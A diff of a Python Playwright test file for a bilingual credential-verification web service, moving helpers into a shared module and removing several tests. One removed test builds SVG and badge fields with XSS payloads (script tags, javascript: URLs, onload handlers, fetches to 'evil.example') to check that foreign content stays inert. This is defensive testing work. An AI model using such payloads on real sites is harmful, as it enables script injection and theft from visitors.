@@ -3,40 +3,28 @@ and on a desk, with scripts and without."""
 
 import json
 from collections.abc import Callable, Iterator, Mapping
-from dataclasses import dataclass, replace
+from dataclasses import dataclass
 from pathlib import Path
-from typing import Any
 
 import pytest
 from playwright.sync_api import Browser, Page
 
-from jmc_vc.domain.credential import Format
-from jmc_vc.domain.issuing_settings import IssuingProfile
 from jmc_vc.formats import baking
 from jmc_vc.formats.data_model.enveloped import ENVELOPED_CREDENTIAL, Token, TokenMediaType, write_envelope
-from tests.browser.pages import DESKTOP, PHONE, served_house
+from tests.browser.connected import NOT_ACCREDITED, SLOW, VALID, link, opened, submit
+from tests.browser.pages import DESKTOP, PHONE
 from tests.builders.codes import drawn, on_a_certificate, page, photographed, written
-from tests.builders.installation import Installation, award
-from tests.builders.lived_in import revoke
-from tests.builders.outside_issuer import HOST, OutsideIssuer
+from tests.builders.outside_issuer import HOST
 from tests.builders.pictures import png, svg
-from tests.parts import require
-from tests.simulators.outside import Mode, outside
 from tests.web.pages.house import House
 
 pytestmark = [pytest.mark.browser, pytest.mark.loopback, pytest.mark.slow]
 
 OLDER = b'{"@context":"https://w3id.org/openbadges/v2","type":"Assertion","id":"https://x.example/1"}'
-VALID = ("この証明は有効です。", "This credential is valid.")
-NOT_ACCREDITED = (
-    "署名は正しいことを確認しましたが、本機構が認証したプログラムではありません。",
-    "The signature is correct, but the program is not accredited by this organization.",
-)
 SOME_ARE_BAD = (
     "提示された証明又は提示そのものに、有効でないものがあります。",
     "A credential that was presented, or the presentation itself, is not valid.",
 )
-SLOW = "https://slow.example"
 FORM = ("証明を検証する", "Verify a credential")
 AS_FILE = ("ファイル又は文字列", "As a file or text")
 
@@ -49,10 +37,6 @@ class Case:
     put: Callable[[House], bytes]
     headings: tuple[str, str]
     told: tuple[str, str]
-
-
-def link(house: House) -> str:
-    return house.installation.service.site.credential(house.uuids["valid"])
 
 
 CASES: Mapping[str, Case] = {
@@ -94,7 +78,9 @@ CASES: Mapping[str, Case] = {
     "a PDF with the code": Case(
         "file", lambda house: page(drawn(link(house))), VALID, ("PDFにあるQRコード", "By the QR code in a PDF")
     ),
-    "our own link": Case("text", lambda house: link(house).encode(), VALID, AS_FILE),
+    "our own link": Case(
+        "text", lambda house: link(house).encode(), VALID, ("本サービスのリンク", "By a link of this service")
+    ),
     "a badge at its own address": Case(
         "elsewhere",
         lambda _: f"{HOST}/badges/1".encode(),
@@ -104,27 +90,6 @@ CASES: Mapping[str, Case] = {
     "Open Badges 2.0": Case("file", lambda _: OLDER, FORM, ("Open Badges 2.0",) * 2),
     "something else": Case("text", lambda _: b"hello", FORM, ("<code>verify.not_recognized</code>",) * 2),
 }
-
-
-@pytest.fixture(scope="module")
-def connected(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
-    """The installation, answering, and with another issuer's host within its reach."""
-    require("chromium")
-    folder = tmp_path_factory.mktemp("connected")
-    with outside(folder) as internet:
-        host, issuer = internet.host(HOST.removeprefix("https://")), OutsideIssuer()
-        host.serve("/.well-known/did.json", json.dumps(issuer.document()).encode())
-        host.serve("/badges/1", issuer.sign(issuer.badge()))
-        internet.host(SLOW.removeprefix("https://"), Mode.HANGS_AT_HEADERS)
-        with served_house(folder / "house", internet.environment) as house:
-            yield replace(house, bodies={**house.bodies, **in_other_forms(house.installation)})
-
-
-def in_other_forms(installation: Installation) -> dict[str, bytes]:
-    installation.set_issuing(profile=IssuingProfile.VC_JWT, sd_jwt_vc=True)
-    body = award(recipient={**award()["recipient"], "email": "in-other-forms@learners.example"})
-    forms = {each.format: each.body for each in installation.issue(body).representations}
-    return {"jwt": forms[Format.JWT], "sd-jwt": forms[Format.SD_JWT]}
 
 
 WAYS = {
@@ -144,16 +109,6 @@ def way(request: pytest.FixtureRequest, browser: Browser) -> Iterator[tuple[Page
     tab.set_default_timeout(10_000)
     yield tab, language
     context.close()
-
-
-def opened(tab: Page, house: House, path: str, language: str) -> None:
-    base = house.installation.service.site.base_url
-    tab.goto(base + path + ("?lang=en" if language == "en" else ""))
-
-
-def submit(tab: Page) -> None:
-    with tab.expect_navigation():
-        tab.locator("#verify .button-main").click()
 
 
 @pytest.mark.parametrize("name", CASES)
@@ -273,93 +228,6 @@ def test_everything_can_be_done_with_the_keyboard(connected: House, way: tuple[P
     assert tab.get_by_role("heading", level=1).inner_text() in VALID
 
 
-@pytest.mark.parametrize("language", ["ja", "en"])
-@pytest.mark.parametrize("name", ["valid", "revoked", "foreign", "unreachable", "of-another"])
-def test_verdict_who_what_whom_and_when_stand_on_the_first_screen_of_a_phone(
-    connected: House, browser: Browser, name: str, language: str
-) -> None:
-    context = browser.new_context(viewport={"width": PHONE[0], "height": PHONE[1]}, java_script_enabled=False)
-    tab = context.new_page()
-    opened(tab, connected, "/verify", language)
-    if name == "of-another":
-        tab.locator("details.more-questions summary").click()
-        tab.locator("#name").fill("鈴木 太郎")
-    tab.locator("#text").fill(connected.bodies["valid" if name == "of-another" else name].decode())
-    submit(tab)
-    facts = tab.locator(".facts-wide dd")
-    assert facts.count() == 4
-    last = facts.nth(3).bounding_box()
-    assert last is not None
-    assert last["y"] + last["height"] <= PHONE[1]
-    context.close()
-
-
-def test_the_result_is_printed_on_a4_with_time_digest_and_address(connected: House, browser: Browser) -> None:
-    context = browser.new_context(viewport={"width": 794, "height": 1123})  # A4 at 96 dpi
-    tab = context.new_page()
-    tab.goto(f"{connected.installation.service.site.base_url}/verify?credential={connected.uuids['valid']}")
-    asked = "window.print = () => { document.body.dataset.printed = 'yes' }"
-    tab.evaluate(asked)
-    tab.get_by_role("button", name="印刷する").click()
-    assert tab.locator("body").get_attribute("data-printed") == "yes"
-    tab.emulate_media(media="print")
-    assert tab.evaluate("document.documentElement.scrollWidth") <= 794
-    filed = tab.locator("section[aria-labelledby=filed]")
-    text = filed.inner_text()
-    assert "2026年11月23日12時00分" in text
-    assert f"/verify?credential={connected.uuids['valid']}" in text.replace("\n", "")
-    assert filed.locator("code").is_visible()
-    assert not tab.locator("section[aria-labelledby=keep]").is_visible()
-    assert not tab.locator(".head nav").is_visible()
-    assert all(each.is_visible() for each in tab.locator("details > ul").all()), "what is folded is printed too"
-    context.close()
-
-
-HOSTILE_SVG = svg(
-    '<script>window.stolen = 1; fetch("https://evil.example/")</script>'
-    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>'
-    '<a xlink:href="javascript:alert(1)" xmlns:xlink="http://www.w3.org/1999/xlink"><text>x</text></a>'
-    "<use href=\"data:image/svg+xml,%3Csvg onload='alert(1)'/%3E\"/>"
-    '<animate attributeName="href" to="javascript:alert(1)"/>'
-    '<style>@import "https://evil.example/x.css";</style><image href="https://evil.example/x.png"/>',
-    attributes=' onload="alert(1)"',
-)
-
-
-@pytest.mark.parametrize("how", ["SV-04 SV-05 a picture with scripts", "AP-18 AP-19 a badge with markup"])
-def test_what_strangers_wrote_is_inert(connected: House, browser: Browser, how: str) -> None:
-    """Nothing of it runs, is drawn, or is asked for; the policy of the page had nothing to keep away."""
-    issuer = OutsideIssuer()
-    badge: dict[str, Any] = issuer.badge(name="<img src=x onerror=alert(1)>")
-    subject = badge["credentialSubject"]["achievement"]
-    subject["name"] = '"><script>alert(1)</script>'
-    subject["description"] = "[x](javascript:alert(1)) <svg onload=alert(1)>"
-    subject["criteria"]["narrative"] = (
-        "[x](javascript:alert(1)) <iframe src=//evil.example></iframe> <data:text/html,x>"
-    )
-    subject["image"] = {"id": "data:image/svg+xml,%3Csvg%20onload=%22alert(1)%22/%3E", "type": "Image"}
-    data = issuer.sign(badge) if how.startswith("AP") else baking.bake(HOSTILE_SVG, issuer.sign(badge))
-    base = connected.installation.service.site.base_url
-    context = browser.new_context(viewport={"width": 390, "height": 844})
-    tab = context.new_page()
-    alerts: list[str] = []
-    asked: list[str] = []
-    told: list[str] = []
-    tab.on("dialog", lambda dialog: alerts.append(dialog.message))
-    tab.on("request", lambda request: asked.append(request.url))
-    tab.on("console", lambda message: told.append(message.text))
-    tab.goto(f"{base}/verify?lang=en")
-    tab.locator("#file").set_input_files({"name": "x.svg", "mimeType": "image/svg+xml", "buffer": data})
-    submit(tab)
-    assert tab.get_by_role("heading", level=1).inner_text() == NOT_ACCREDITED[1]
-    assert "<script>alert(1)</script>" in tab.locator(".what").inner_text()
-    assert tab.locator("main img, main iframe, main script, main object, main [onload], main [onerror]").count() == 0
-    assert tab.locator("main a[href^=javascript], main a[href^=data], main a[href*=evil]").count() == 0
-    assert tab.evaluate("window.stolen") is None
-    assert [each for each in asked if not each.startswith(base)] == alerts == told == []
-    context.close()
-
-
 def test_a_photograph_that_is_too_large_is_made_smaller_in_the_browser(connected: House, browser: Browser) -> None:
     large = photographed(on_a_certificate(link(connected)), noise=0.3).resize((4000, 5000))
     data = written(large, "JPEG", quality=95)
@@ -421,20 +289,4 @@ def test_while_others_are_asked_the_page_says_what_is_asked(connected: House, br
     assert SLOW.removeprefix("https://") in shown
     assert "the signature is right" in shown
     assert "in the picture" not in shown
-    context.close()
-
-
-def test_the_live_verdict_stands_above_the_certificate(connected: House, browser: Browser) -> None:
-    """Made anew for every reader: a change is seen at once."""
-    installation = connected.installation
-    issued = installation.issue(award(recipient={**award()["recipient"], "email": "live@learners.example"}))
-    context = browser.new_context(java_script_enabled=False)
-    tab = context.new_page()
-    path = f"{installation.service.site.base_url}/credentials/{issued.credential.uuid}?lang=en"
-    tab.goto(path)
-    assert "This credential is valid." in tab.locator(".status-line.good").inner_text()
-    revoke(installation, issued)
-    tab.goto(path)
-    assert "This credential has been revoked." in tab.locator(".status-line.bad").inner_text()
-    assert tab.locator("a[href$='/bundle']").count() == 1
     context.close()
